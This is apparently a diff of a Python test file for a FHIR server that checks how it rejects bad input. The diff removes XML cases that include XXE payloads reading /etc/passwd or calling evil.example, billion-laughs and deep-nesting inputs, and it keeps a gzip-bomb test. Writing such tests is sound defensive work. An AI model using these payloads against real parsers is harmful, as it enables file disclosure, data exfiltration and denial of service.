@@ -1,4 +1,4 @@
-"""F-046 to F-074: XML, which is not read here, and HTTP itself."""
+"""F-056 to F-074: HTTP itself."""
 
 from __future__ import annotations
 
@@ -10,54 +10,6 @@ from tests.badinput.orders import CANARY, person, told
 
 _PATIENT = told(person())
 _MIB = 2**20
-_XML = {"Content-Type": "application/fhir+xml"}
-_LATER = "XML is not read yet: the answer says what is"
-_NS = 'xmlns="http://hl7.org/fhir"'
-
-
-def _xml(id_: str, what: str, body: str) -> Call:
-    return Call(
-        id_,
-        what,
-        "POST",
-        "/fhir/Patient",
-        415,
-        "not-supported",
-        body.encode(),
-        _XML,
-        says="application/fhir+json",
-        ours=_LATER,
-    )
-
-
-XML_CALLS = (
-    _xml("F-046", "DOCTYPE", f"<!DOCTYPE Patient><Patient {_NS}/>"),
-    _xml(
-        "F-047",
-        "external entity in a file",
-        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Patient {_NS}>&e;</Patient>',
-    ),
-    _xml(
-        "F-048",
-        "external entity at a URL",
-        f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/{CANARY}">]><Patient {_NS}>&e;</Patient>',
-    ),
-    _xml(
-        "F-049",
-        "internal entity in an attribute",
-        f'<!DOCTYPE x [<!ENTITY e "1">]><Patient {_NS}><id value="&e;"/></Patient>',
-    ),
-    _xml(
-        "F-050",
-        "billion laughs",
-        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><Patient>&b;</Patient>',
-    ),
-    _xml("F-051", "stylesheet instruction", f'<?xml-stylesheet href="evil.xsl"?><Patient {_NS}/>'),
-    _xml("F-052", "wrong namespace", '<Patient xmlns="urn:hl7-org:v3"/>'),
-    _xml("F-053", "element without value", f"<Patient {_NS}><birthDate>1990-05-01</birthDate></Patient>"),
-    _xml("F-054", "10 000 levels", "<a>" * 10_000),
-    _xml("F-055", "UTF-7 declared", f'<?xml version="1.0" encoding="UTF-7"?><Patient {_NS}/>'),
-)
 
 
 def _post(id_: str, what: str, status: int, code: str, body: bytes, **headers: str) -> Call:
@@ -75,6 +27,15 @@ _ONE = gzip.compress(_PATIENT)
 
 HTTP_CALLS = (
     _post("F-056", "text/plain", 415, "not-supported", _PATIENT, Content_Type="text/plain"),
+    _post(
+        "F-056f",
+        "JSON called XML",
+        400,
+        "structure",
+        _PATIENT,
+        Content_Type="application/fhir+xml",
+    ),
+    _post("F-056g", "RDF", 415, "not-supported", b"<a> <b> <c> .", Content_Type="application/fhir+turtle"),
     _post("F-056b", "no Content-Type", 415, "not-supported", _PATIENT, Content_Type=""),
     _post("F-056c", "a form", 415, "not-supported", _PATIENT, Content_Type="multipart/form-data; boundary=x"),
     _post(
@@ -97,7 +58,18 @@ HTTP_CALLS = (
     ),
     _get("F-057", "Accept: text/html", "/fhir/Patient", 406, "not-supported", Accept="text/html"),
     _get("F-057b", "_format=exe", "/fhir/Patient?_format=exe", 406, "not-supported"),
-    _get("F-057c", "Accept: XML", "/fhir/Patient/anna", 406, "not-supported", Accept="application/fhir+xml"),
+    _get(
+        "F-057c", "Accept: RDF", "/fhir/Patient/anna", 406, "not-supported", Accept="application/fhir+turtle"
+    ),
+    _get(
+        "F-057d",
+        "another version of FHIR",
+        "/fhir/Patient/anna",
+        406,
+        "not-supported",
+        Accept="application/fhir+xml; fhirVersion=5.0",
+    ),
+    _get("F-057e", "nothing wanted", "/fhir/Patient/anna", 406, "not-supported", Accept="*/*;q=0"),
     _post("F-063", "gzip 49 KB that is 50 MB", 413, "too-long", _BOMB, Content_Encoding="gzip"),
     _post("F-064", "gzip cut short", 400, "structure", _ONE[:-4], Content_Encoding="gzip"),
     _post("F-064b", "bytes after the gzip", 400, "structure", _ONE + b"more", Content_Encoding="gzip"),
